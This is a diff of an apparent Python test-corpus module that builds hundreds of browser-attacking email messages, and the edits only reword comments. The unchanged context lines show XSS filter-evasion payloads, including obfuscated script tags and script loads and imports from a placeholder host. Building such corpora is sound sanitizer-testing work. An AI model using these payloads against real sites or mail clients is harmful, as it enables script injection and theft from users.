@@ -1,7 +1,8 @@
-"""Over three hundred messages that attack a user who reads them in a browser, by their attempt.
+"""Over three hundred messages that attack a user of a browser, by the kind of attack.
 
-Each tries to set `pwned` in the page, or the page's title, or to fetch from `HERE`. They follow published lists of such attempts (OWASP's filter evasion,
-PortSwigger's cheat sheet, html5sec.org, MIME torture tests), and are all written here.
+Each message tries to set `pwned` in the page, to change the page's title, or to fetch from `HERE`. The attacks follow
+published lists (OWASP's filter evasion, PortSwigger's cheat sheet, html5sec.org, MIME torture tests). All messages were
+written for this file.
 """
 
 import base64
@@ -49,7 +50,7 @@ HOLDERS = (
     '<svg><a xlink:href="{}"><text y=20>go</text></a></svg>', '<math href="{}"><mi id=go>go</mi></math>', '<img src="{}">', '<link rel=import href="{}">', '<video poster="{}"></video>', '<input type=image src="{}">',
 )
 
-# Text that an HTML parser may take for the end or the beginning of an element.
+# Text that an HTML parser may confuse with the end or the beginning of an element.
 CONFUSIONS = (
     f"<ScRiPt>{MARK}</sCrIpT>", f"<script/x>{MARK}</script>", f"<script\x0c>{MARK}</script>", f"<script>{MARK}", f"<<script>{MARK}//<</script>", f"<scr\0ipt>{MARK}</scr\0ipt>",
     f"<scr<script>ipt>{MARK}</scr</script>ipt>", f"<script src=data:,{MARK}></script>", "<script src=//HERE/a.js></script>", "<script type=module>import('//HERE/a.js')</script>",
@@ -193,7 +194,7 @@ def of_structure():
 
 
 def in_lines(message):
-    """The message with CRLF line ends: others are refused (RFC 5321 section 2.3.8)."""
+    """The message with CRLF line ends. The server refuses other line ends (RFC 5321 section 2.3.8)."""
     return re.sub(rb"\r?\n|\r", b"\r\n", message)
 
 
